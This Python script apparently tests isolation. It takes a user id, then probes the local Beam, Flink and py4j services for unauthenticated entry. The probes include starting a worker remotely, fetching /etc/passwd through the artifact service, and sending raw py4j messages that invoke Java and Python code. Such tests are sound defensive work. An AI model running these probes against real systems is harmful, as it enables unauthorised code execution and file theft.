"""Somebody who tries to get into a local program; prints what worked.

Arguments: the id of a user to become, a host, and doors: ports there, and addresses of unix
    sockets.
"""

from __future__ import annotations

import contextlib
import encodings.idna  # noqa: F401  the other user may not read the files of this Python
import json
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

import grpc
from apache_beam.portability.api import (
    beam_artifact_api_pb2,
    beam_artifact_api_pb2_grpc,
    beam_fn_api_pb2,
    beam_fn_api_pb2_grpc,
    beam_runner_api_pb2,
    endpoints_pb2,
)

_ANSWER_S = 5.0
# Of py4j: to Java, the home folder of the user; to Python, an attribute of any module.
_TO_JAVA = b"c\nz:java.lang.System\ngetProperty\nsuser.home\ne\n"
_TO_PYTHON = b"c\np0\ngetPythonFunction\nsos\nspath\ne\n"


def starts_a_worker(address: str) -> bool:
    """Have the program fetch its work from here."""
    with (
        socket.create_server((_own_address(address), 0)) as here,
        grpc.insecure_channel(address) as channel,
    ):
        here.settimeout(_ANSWER_S)
        endpoint = endpoints_pb2.ApiServiceDescriptor(url="{}:{}".format(*here.getsockname()))
        request = beam_fn_api_pb2.StartWorkerRequest(
            worker_id="1-1", provision_endpoint=endpoint, params={"INTRUDER": "was here"}
        )
        call = beam_fn_api_pb2_grpc.BeamFnExternalWorkerPoolStub(channel).StartWorker.future(
            request, timeout=_ANSWER_S
        )
        # The program answers only when its worker has ended.
        return call.code() in (
            grpc.StatusCode.OK,
            grpc.StatusCode.DEADLINE_EXCEEDED,
        ) and _is_connected(here)


def _own_address(address: str) -> str:
    """Return the address at which the program can reach this one."""
    if address.startswith("unix:"):
        return "127.0.0.1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.connect((address.rpartition(":")[0], 9))
        return str(line.getsockname()[0])


def _is_connected(here: socket.socket) -> bool:
    with contextlib.suppress(TimeoutError):
        here.accept()[0].close()
        return True
    return False


def reads_a_file(address: str) -> bool:
    """Have Beam send a file of the program's user."""
    file = beam_runner_api_pb2.ArtifactFilePayload(path="/etc/passwd").SerializeToString()
    request = beam_artifact_api_pb2.GetArtifactRequest(
        artifact=beam_runner_api_pb2.ArtifactInformation(
            type_urn="beam:artifact:type:file:v1", type_payload=file
        )
    )
    with grpc.insecure_channel(address) as channel, contextlib.suppress(grpc.RpcError):
        service = beam_artifact_api_pb2_grpc.ArtifactRetrievalServiceStub(channel)
        return any(service.GetArtifact(request, timeout=_ANSWER_S))
    return False


def reaches_rest(address: str) -> bool:
    """Have Flink's REST answer, which runs code too."""
    try:
        with urllib.request.urlopen(f"http://{address}/jobs", timeout=_ANSWER_S) as answer:
            return b"jobs" in answer.read()
    except (OSError, ValueError, urllib.error.URLError):
        return False
    except Exception:  # something that is not HTTP
        return False


def calls_java(address: str) -> bool:
    """Have py4j's server in the JVM call a method."""
    return _said(address, _TO_JAVA).startswith(b"!ys")


def calls_python(address: str) -> bool:
    """Have py4j's server in the program import a module."""
    return b"_java_user_defined_function" in _said(address, _TO_PYTHON)


def _said(address: str, message: bytes) -> bytes:
    host, _, port = address.rpartition(":")
    with (
        contextlib.suppress(OSError),
        socket.create_connection((host, int(port)), timeout=_ANSWER_S) as line,
    ):
        line.sendall(message)
        return line.recv(10_000)
    return b""


ALL: list[Callable[[str], bool]] = [
    starts_a_worker,
    reads_a_file,
    reaches_rest,
    calls_java,
    calls_python,
]


def main(user: str, host: str, *doors: str) -> None:
    """Try everything at all doors."""
    if int(user) != os.getuid():
        os.setgroups([])
        os.setgid(int(user))
        os.setuid(int(user))
    attempts = [
        (each, door if ":" in door else f"{host}:{door}")
        for door in doors
        for each in (ALL if ":" not in door else ALL[:1])
    ]
    with ThreadPoolExecutor(len(attempts)) as pool:
        worked = pool.map(lambda attempt: attempt[0](attempt[1]), attempts)
        print(
            json.dumps(
                sorted(
                    {
                        attempt.__name__
                        for (attempt, _), has_worked in zip(attempts, worked)
                        if has_worked
                    }
                )
            )
        )


if __name__ == "__main__":
    main(*sys.argv[1:])
